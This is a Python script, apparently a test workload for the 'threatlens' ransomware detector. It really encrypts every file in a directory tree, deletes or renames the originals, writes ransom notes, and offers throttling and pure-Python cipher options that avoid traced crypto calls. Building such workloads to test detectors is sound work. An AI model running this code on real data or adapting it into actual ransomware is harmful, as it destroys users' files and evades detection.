#!/usr/bin/python3
"""A ransomware-like tool for threatlens's collector recordings: it really encrypts the files of a directory tree.

Run it only on a generated tree (bench/workloads/tree.ts). Shapes, chosen by options:
  --cipher aesgcm|fernet   through the `cryptography` package (Debian's links the system libcrypto: encrypt events)
  --cipher xor|hashlib     pure Python (a random key stream, or SHA-256 in counter mode through hashlib, whose
                           digests are not among the traced libcrypto calls): no encrypt events
  --mode newfile           read FILE, write FILE.locked, delete FILE
  --mode inplace           overwrite FILE in place, then rename it to FILE.locked
  --threads N / --processes N   workers in one process, or a pool of worker processes
  --rate R                 at most R files per second per worker (a slow, throttled attack)
  --notes                  a ransom note in every directory
Writes a JSON report ({"encrypted", "deleted", "renamed", "notes", "bytes"}) to $WORKLOAD_REPORT if set, else stdout.
"""
import argparse
import hashlib
import json
import multiprocessing
import os
import random
import sys
import time
from concurrent.futures import ThreadPoolExecutor

NOTE = "YOUR FILES ARE ENCRYPTED.\nThis is a threatlens test workload: nothing was paid, nothing was lost.\n"


def keystream_xor(data: bytes, seed: int) -> bytes:
    stream = random.Random(seed).randbytes(len(data))
    return (int.from_bytes(data, "little") ^ int.from_bytes(stream, "little")).to_bytes(len(data), "little")


def hashlib_xor(data: bytes, key: bytes) -> bytes:
    blocks = bytearray()
    counter = 0
    while len(blocks) < len(data):
        blocks += hashlib.sha256(key + counter.to_bytes(8, "little")).digest()
        counter += 1
    return (int.from_bytes(data, "little") ^ int.from_bytes(bytes(blocks[: len(data)]), "little")).to_bytes(len(data), "little")


def make_cipher(name: str):
    key = b"k" * 32
    if name == "aesgcm":
        from cryptography.hazmat.primitives.ciphers.aead import AESGCM

        aead = AESGCM(key)
        return lambda data: (lambda nonce: nonce + aead.encrypt(nonce, data, None))(os.urandom(12))
    if name == "fernet":
        import base64

        from cryptography.fernet import Fernet

        fernet = Fernet(base64.urlsafe_b64encode(key))
        return fernet.encrypt
    if name == "xor":
        return lambda data: keystream_xor(data, 1234)
    if name == "hashlib":
        return lambda data: hashlib_xor(data, key)
    raise SystemExit(f"unknown cipher {name}")


def encrypt_file(path: str, cipher_name: str, mode: str, ext: str, delay: float) -> dict:
    cipher = make_cipher(cipher_name)
    with open(path, "rb") as f:
        data = f.read()
    sealed = cipher(data)
    if mode == "newfile":
        with open(path + ext, "wb") as f:
            f.write(sealed)
        os.unlink(path)
        result = {"encrypted": 1, "deleted": 1, "renamed": 0, "bytes": len(data)}
    else:
        with open(path, "r+b") as f:
            f.write(sealed)
            f.truncate()
        os.rename(path, path + ext)
        result = {"encrypted": 1, "deleted": 0, "renamed": 1, "bytes": len(data)}
    if delay > 0:
        time.sleep(delay)
    return result


def targets(root: str, ext: str) -> list:
    found = []
    for directory, _, files in os.walk(root):
        for name in sorted(files):
            if not name.endswith(ext) and not name.startswith("README_RESTORE"):
                found.append(os.path.join(directory, name))
    return sorted(found)


def worker_job(args):
    return encrypt_file(*args)


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--dir", required=True)
    p.add_argument("--cipher", default="aesgcm", choices=["aesgcm", "fernet", "xor", "hashlib"])
    p.add_argument("--mode", default="newfile", choices=["newfile", "inplace"])
    p.add_argument("--threads", type=int, default=1)
    p.add_argument("--processes", type=int, default=0)
    p.add_argument("--rate", type=float, default=0.0, help="files per second per worker (0: as fast as possible)")
    p.add_argument("--notes", action="store_true")
    p.add_argument("--ext", default=".locked")
    a = p.parse_args()
    delay = 1.0 / a.rate if a.rate > 0 else 0.0
    files = targets(a.dir, a.ext)
    jobs = [(path, a.cipher, a.mode, a.ext, delay) for path in files]
    if a.processes > 0:
        with multiprocessing.get_context("fork").Pool(a.processes) as pool:
            results = pool.map(worker_job, jobs, chunksize=4)
    elif a.threads > 1:
        with ThreadPoolExecutor(a.threads) as pool:
            results = list(pool.map(worker_job, jobs))
    else:
        results = [worker_job(job) for job in jobs]
    notes = 0
    if a.notes:
        for directory, _, _ in os.walk(a.dir):
            with open(os.path.join(directory, "README_RESTORE.txt"), "w") as f:
                f.write(NOTE)
            notes += 1
    report = {k: sum(r[k] for r in results) for k in ("encrypted", "deleted", "renamed", "bytes")}
    report["notes"] = notes
    out = os.environ.get("WORKLOAD_REPORT")
    if out:
        with open(out, "w") as f:
            json.dump(report, f)
    else:
        json.dump(report, sys.stdout)
        print()


if __name__ == "__main__":
    main()
